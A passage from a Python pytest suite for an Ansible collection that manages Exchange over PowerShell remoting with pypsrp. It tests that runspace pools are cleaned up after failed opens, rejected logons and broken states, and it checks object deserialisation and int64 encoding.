    assert pool.configuration_name == "Microsoft.Exchange"
    assert pool.read_timeout_at_open == 7                     # a silent server fails within connect_timeout
    assert wsman.transport.read_timeout == 30 == settings.read_timeout
    assert wsman.transport.reconnection_backoff == 0
    assert wsman.kwargs["password"] == PASSWORD and wsman.kwargs["cert_validation"] == "/etc/pki/alleo-ca.pem"
    assert wsman.kwargs["path"] == "PowerShell" and wsman.kwargs["ssl"] is True and not pool.closed


def test_pypsrp_pool_that_fails_while_opening_is_closed(fake_pypsrp, monkeypatch):
    failure = requests.exceptions.ReadTimeout("Read timed out.")
    monkeypatch.setattr(FakeRunspacePool, "open_errors", (failure,))
    created = []
    monkeypatch.setattr(session_mod, "RunspacePool",
                        lambda *a, **k: created.append(FakeRunspacePool(*a, **k)) or created[-1])
    closes = []
    real_close_pool = PypsrpTransport.close_pool

    def close_pool(self, pool, broken=False):
        closes.append((pool, broken))
        return real_close_pool(self, pool, broken=broken)
    monkeypatch.setattr(PypsrpTransport, "close_pool", close_pool)
    with pytest.raises(requests.exceptions.ReadTimeout) as err:
        PypsrpTransport().open_pool(make_settings())
    assert err.value is failure
    pool, wsman = created[0], fake_pypsrp[0]
    assert closes == [(pool, True)]
    assert pool.closed, "the shell was left on the server"
    assert "close" in wsman.requests                           # the HTTP connection too
    # the old HTTP session (and its message-encryption context) is dropped: the Delete gets a fresh handshake
    assert wsman.transport.session is None and wsman.transport.encryption is None


def test_session_over_pypsrp_closes_the_pool_of_a_rejected_logon(fake_pypsrp, monkeypatch, clock):
    monkeypatch.setattr(FakeRunspacePool, "open_errors", (AuthenticationError("Failed to authenticate"),))
    created = []
    monkeypatch.setattr(session_mod, "RunspacePool",
                        lambda *a, **k: created.append(FakeRunspacePool(*a, **k)) or created[-1])
    sess = Session(make_settings(), sleep=clock.sleep, clock=clock)
    with pytest.raises(errors.AuthenticationFailed):
        sess.invoke("Get-RemoteDomain")
    with pytest.raises(errors.AuthenticationFailed):
        sess.invoke("Get-RemoteDomain")
    assert len(created) == 1 and created[0].closed and clock.sleeps == []


@pytest.fixture
def real_pool(monkeypatch):
    """pypsrp's own RunspacePool and WinRS over a fake WSMan (no network)."""
    FakeWSMan.instances = []
    session_mod.load_pypsrp()
    monkeypatch.setattr(session_mod, "WSMan", FakeWSMan)
    assert session_mod.RunspacePool is powershell.RunspacePool
    return FakeWSMan.instances


def test_real_pool_deleted_when_the_open_handshake_fails(real_pool, monkeypatch):
    def receive(self, *args, **kwargs):
        raise requests.exceptions.ReadTimeout("Read timed out.")
    monkeypatch.setattr(powershell.RunspacePool, "_receive", receive)
    with pytest.raises(requests.exceptions.ReadTimeout):
        PypsrpTransport().open_pool(make_settings())
    assert real_pool[0].requests == ["Create", "Delete", "close"]


def test_real_pool_whose_create_failed_has_nothing_to_delete(real_pool, monkeypatch):
    monkeypatch.setattr(FakeWSMan, "create_errors", (fault(2150859173, SHELLS_QUOTA_TEXT),))
    with pytest.raises(WSManFaultError):
        PypsrpTransport().open_pool(make_settings())
    assert real_pool[0].requests == ["Create", "close"]


def test_real_pool_deleted_when_the_server_reports_it_broken(real_pool, monkeypatch):
    def receive(self, *args, **kwargs):
        message = types.SimpleNamespace(data=types.SimpleNamespace(
            state=RunspacePoolState.BROKEN, error_record="Fail to create a runspace"))
        return self._process_runspacepool_state(message)  # pylint: disable=protected-access
    monkeypatch.setattr(powershell.RunspacePool, "_receive", receive)
    with pytest.raises(Exception, match="broken RunspacePoolState"):
        PypsrpTransport().open_pool(make_settings())
    assert "Delete" in real_pool[0].requests, "the shell was left on the server"


# == deserialisation ========================================================================================
class Obj(object):
    def __init__(self, props=None, to_string=None, sets=None, extended=None):
        self.adapted_properties = props or {}
        self.extended_properties = extended or {}
        self.to_string = to_string
        self.property_sets = sets or []


def test_to_plain_flattens_pypsrp_objects():
    enum = Obj(to_string="MimeText", sets=[1])
    ident = Obj({"Name": "fax", "DistinguishedName": "CN=fax"}, to_string="fax")
    multi = Obj(to_string="{SMTP:a.b;1, SMTP:c.d;1}", sets=[[Obj(to_string="SMTP:a.b;1"), "SMTP:c.d;1"]])
    top = Obj({"Name": "fax", "ContentType": enum, "Identity": ident, "AddressSpaces": [Obj(to_string="SMTP:a.b;1")],
               "SmartHosts": multi, "Empty": Obj(to_string="{}", sets=[[]])}, extended={"Port": 25})
    assert to_plain(top) == {"Name": "fax", "ContentType": "MimeText", "Identity": "fax", "AddressSpaces": ["SMTP:a.b;1"],
                             "SmartHosts": ["SMTP:a.b;1", "SMTP:c.d;1"], "Empty": [], "Port": 25}


def test_to_plain_scalars_and_containers():
    assert to_plain(None) is None and to_plain(True) is True and to_plain(25) == 25 and to_plain("x") == "x"
    # a byte array (REG_BINARY) keeps its bytes, as numbers; it is not decoded as text
    assert to_plain(b"caf\xc3\xa9") == [99, 97, 102, 195, 169]
    assert to_plain((1, [2, {"a": b"b"}])) == [1, [2, {"a": [98]}]]
    # a nested object without a display string keeps its properties
    assert to_plain({"Limit": Obj({"Value": 5, "IsUnlimited": False})}) == {"Limit": {"Value": 5, "IsUnlimited": False}}


def test_error_details_reads_what_the_server_filled_in():
    record = FakeError("object 'fax' couldn't be found", "Microsoft.Exchange.Configuration.Tasks.ManagementObjectNotFoundException",
                       fq_error="Set-RemoteDomain")
    message, exc_type, category = error_details(record)
    assert message == "object 'fax' couldn't be found"
    assert exc_type == "Microsoft.Exchange.Configuration.Tasks.ManagementObjectNotFoundException"
    assert category == "Set-RemoteDomain ManagementObjectNotFoundException"
    record.details_message = "a better message"
    assert error_details(record)[0] == "a better message"


def test_ints_beyond_int32_travel_as_int64():
    from ansible_collections.xphone.connect.plugins.module_utils.session import wire_value  # pylint: disable=import-outside-toplevel
    big = wire_value(4294967295)
    assert type(big).__name__ == "TaggedValue" and big.tag == "I64" and big.value == 4294967295
    assert wire_value(2147483647) == 2147483647 and not hasattr(wire_value(2147483647), "tag")
    assert wire_value(-2147483648) == -2147483648 and wire_value(-2147483649).tag == "I64"
    assert wire_value(True) is True and wire_value(None) is None and wire_value("4294967295") == "4294967295"
    listed = wire_value([1, 2147483648])
    assert listed[0] == 1 and listed[1].tag == "I64"


def test_a_large_int_that_crossed_the_persistent_connection_still_travels_as_int64():
    from ansible_collections.xphone.connect.plugins.module_utils.session import wire_value  # pylint: disable=import-outside-toplevel
    from ansible_collections.xphone.connect.plugins.module_utils.windows_plan import (  # pylint: disable=import-outside-toplevel
        value_from_data, value_to_data)
    crossed = value_from_data(value_to_data(4294967295))
    sent = wire_value(crossed)
    assert sent.tag == "I64" and sent.value == 4294967295
    assert wire_value(value_from_data(value_to_data(128))) == 128
